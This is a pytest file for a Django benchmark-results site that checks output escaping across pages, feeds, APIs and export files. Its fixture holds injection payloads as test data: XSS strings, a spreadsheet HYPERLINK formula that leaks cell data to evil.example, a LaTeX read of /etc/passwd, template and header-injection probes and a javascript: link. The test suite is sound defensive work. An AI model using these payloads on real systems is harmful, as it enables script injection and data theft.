"""Every text of a document may be hostile, and all pages, files, feeds and previews show it as text.

Each export format has its own test with more of such words (tests/exports).
"""

import csv
import json
import re
from io import StringIO
from pathlib import Path
from typing import Any
from urllib.parse import quote
from xml.etree import ElementTree

import duckdb
import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.http import HttpResponse
from django.test import Client

from benchdb.compare.permalinks import services as permalinks
from benchdb.exports import tasks
from benchdb.exports.formats import FORMATS
from benchdb.exports.models import Export
from benchdb.runs.models import Run
from benchdb.wording.formulas import FORMULA
from tests.runs.distributions.sent import FAST, latencies
from tests.support.comparing.comparisons import grid_results, ids
from tests.support.comparing.responses import LEVELS, results_at
from tests.support.documents import document, environment, series, target, uuid7
from tests.support.mutations import saying
from tests.support.store import store_run

SITE = "http://testserver"
WORDS = {
    "markup": "\"'><img src=x onerror=alert(1)></script><script>alert(1)</script>]]>&lt;b&gt;",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "others": "$\\input{/etc/passwd}$ {{7*7}} %0d%0aX-Evil: 1 [x](javascript:alert(1))",
}
PAGES = (
    *("/", "/runs/", "/machines/", "/runs/{run}/", "/runs/{run}/results/0/", "/runs/{run}/results/1/"),
    *("/runs/{run}/again/", "/runs/{run}/edit/", "/runs/{run}/delete/", "/machines/{machine}/", "/compare/?{both}"),
    *("/compare/?{both}&rows=run", "/compare/?{both}&rows=label:{key}", "/compare/table.html?{both}", "/c/{id}/"),
    *("/search/?q=img", "/runs/?q=%3Cimg", "/c/{id}/embed", "/c/{id}/today", "/c/{id}.html"),
    *("/trend/?{both}&test=write", "/admin/runs/runstate/"),
)
FILES = (
    *("/runs/{run}/inside.csv", "/runs/{run}/inside.svg", "/runs/feed.atom", "/campaigns/feed.atom", "/runs/all.json"),
    *("/runs/{run}/results/{last}/latencies.csv", "/runs/{run}/results/{last}/latencies.hlog"),
    *("/runs/{run}/results/{last}/latencies.hgrm", "/trend/feed.atom?run={run}&test=write", "/oembed?url={link}"),
    *("/questions/best.csv", "/questions/facts.csv", "/questions/best.json", "/questions/facts.json"),
    *("/c/{id}/card.svg", "/c/{id}/card.png", "/api/v1/runs", "/api/v1/runs/{run}", "/api/v1/changes"),
)
MARKUP = re.compile(r"<(script|img|iframe|foreignObject)\b")


@pytest.fixture(params=WORDS)
def words(request: Any) -> str:
    return WORDS[request.param]


@pytest.fixture
def runs(owner: User, words: str) -> list[Run]:
    results = grid_results() + [each for level in LEVELS for each in results_at(level, 8)]
    for each in results:
        each["values"] = each["values"][:2]
    results.append(latencies(FAST, FAST))
    parts = {"environment": environment(), "target": target(), "labels": {words: words}, "series": [series()]}
    sent = saying(document(rounds=2, results=results, visibility="public", **parts), words)
    assert json.dumps(sent).count(json.dumps(words[:60])[1:-1]) > 40
    return [store_run(owner, {**sent, "run_id": str(uuid7())}) for _ in range(2)]


@pytest.fixture
def names(owner: User, runs: list[Run]) -> dict[str, object]:
    """What addresses name."""
    link, run = permalinks.share(owner, "table", ids(runs), site=SITE)[0], runs[0]
    of_run = {"run": run.pk, "machine": run.machine_id, "last": run.runstate.result_count - 1}
    return {"both": ids(runs), "key": "%22", "id": link.pk, "link": quote(f"{SITE}/c/{link.pk}/"), **of_run}


@pytest.mark.parametrize("words", ["markup"], indirect=True)
def test_it_is_text_on_every_page(ada: Client, names: dict[str, object]) -> None:
    User.objects.update(first_name="<img src=x>", is_staff=True, is_superuser=True)
    seen = 0
    for page in PAGES:
        for reader in (ada, Client()):
            answer = reader.get(page.format(**names))
            html = answer.content.decode()
            assert answer.status_code < 500, page
            assert not [text for text in ("<img src=x", "<script>alert") if text in html], page
            seen += "&lt;img src=x" in html or "\\u003Cimg src=x" in html
    assert seen > len(PAGES), "the words are there, as words"


def texts_of_parquet(file: Path) -> set[object]:
    """Parquet is data with types, which no spreadsheet takes for formulas: words stay as they are."""
    return {field for line in duckdb.sql(f"SELECT * FROM '{file}'").fetchall() for field in line if type(field) is str}


def check(client: Client, address: str, folder: Path) -> None:
    """Read a file as what its type says it is; a worker makes it if it has to."""
    answer: HttpResponse = client.get(address)
    for _export in Export.objects.filter(state=Export.State.WAITING):
        tasks.make()
        answer = client.get(address)
    assert (answer.status_code, answer["X-Content-Type-Options"]) == (200, "nosniff"), address
    assert "X-Evil" not in answer.headers
    media, text = answer["Content-Type"].partition(";")[0], answer.content.decode("utf-8", "replace")
    (folder / "file.parquet").write_bytes(answer.content)
    assert not MARKUP.search(text) or not media.endswith(("xml", "html")), address
    if media in ("text/csv", "text/tab-separated-values"):
        lines = csv.reader(StringIO(text, newline=""), delimiter="," if media == "text/csv" else "\t")
        assert not [field for line in lines for field in line if field.lstrip(" ").startswith(FORMULA)], address
    elif media.endswith("xml"):
        found = [*ElementTree.fromstring(answer.content).iter()]
        assert not [element.tag for element in found if any(name.startswith("on") for name in element.attrib)]
    elif media == "application/vnd.apache.parquet":
        texts_of_parquet(folder / "file.parquet")
    elif media == "application/pdf":
        assert not re.search(rb"/(JavaScript|JS|OpenAction|URI|Launch)\b", answer.content)


@pytest.mark.parametrize("form", FORMATS)
def test_it_is_text_in_every_format(form: str, client: Client, owner: User, runs: list[Run], tmp_path: Path) -> None:
    both, trend = ids(runs), f"run={runs[0].pk}&test=write"
    queries = {"table": both, "surface": f"{both}&test=write", "trend": trend, "response": f"{both}&test=random_read"}
    for kind, query in queries.items():
        link = permalinks.share(owner, kind, query, site=SITE)[0]
        check(client, f"/c/{link.pk}.{form}", tmp_path)


def test_it_is_text_in_every_other_file(client: Client, names: dict[str, object], words: str, tmp_path: Path) -> None:
    for address in FILES:
        check(client, address.format(**names), tmp_path)
    call_command("export_public", str(tmp_path / "all.parquet"), stdout=StringIO())
    assert words in texts_of_parquet(tmp_path / "all.parquet")
